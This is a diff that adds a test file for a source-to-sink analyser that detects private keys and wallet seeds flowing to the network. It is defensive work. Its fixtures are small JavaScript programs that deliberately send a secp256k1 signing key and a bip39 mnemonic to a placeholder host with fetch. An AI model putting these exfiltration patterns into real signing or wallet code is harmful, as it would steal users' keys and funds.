@@ -1,0 +1,49 @@
+import { expect, it } from 'vitest';
+import { analyseSources } from '../testing/analyseSources.ts';
+
+const PROGRAM = `const { sign } = require('@noble/secp256k1');
+function post(text) { return fetch('https://example.invalid', { method: 'POST', body: text }); }
+exports.sign = function signed(key, message) { post(key); return sign(message, key); };`;
+
+/** Where flows of keys to the network end. */
+async function ends(files: Readonly<Record<string, string>>): Promise<string[]> {
+  const { flows } = await analyseSources(files);
+  return flows
+    .filter(({ source, sink }) => source === 'key' && sink === 'network')
+    .flatMap((flow) => flow.ends.map(({ site }) => `${site.file} ${site.within} ${site.code}`));
+}
+
+it('says where a flow ends by file and function', async () => {
+  expect(await ends({ 'a.js': PROGRAM })).toEqual([expect.stringMatching(/^a\.js post [0-9a-f]{16}$/u)]);
+});
+
+it('tells every place in which one and the same flow ends', async () => {
+  const second = PROGRAM.replace('post(key);', "post(key); fetch('https://example.invalid?' + key);");
+  const found = await ends({ 'a.js': second });
+  expect(found.map((one) => one.split(' ')[1])).toEqual(expect.arrayContaining(['post', 'signed']));
+  expect(found).toHaveLength(2);
+});
+
+it('knows what a function does again under other names, hosts and lines', async () => {
+  const [before] = await ends({ 'a.js': PROGRAM });
+  const renamed = PROGRAM.replaceAll('post', 'deliver')
+    .replaceAll('text', 'given')
+    .replace('example.invalid', 'e.invalid');
+  const [after] = await ends({ 'lib/b.js': `// moved\n\n${renamed}` });
+  expect(after).toMatch(/^lib\/b\.js deliver /u);
+  expect(after?.split(' ').at(-1)).toBe(before?.split(' ').at(-1));
+});
+
+it('tells apart what functions do', async () => {
+  const [before] = await ends({ 'a.js': PROGRAM });
+  const [after] = await ends({ 'a.js': PROGRAM.replace("method: 'POST', body: text", "headers: { 'x-id': text }") });
+  expect(after?.split(' ')[1]).toBe('post');
+  expect(after).not.toBe(before);
+});
+
+it('calls what runs in no function by its file alone', async () => {
+  const [found] = await ends({
+    'a.js': `const seed = require('bip39').generateMnemonic(); fetch('https://example.invalid/' + seed);`,
+  });
+  expect(found).toMatch(/^a\.js {2}[0-9a-f]{16}$/u);
+});
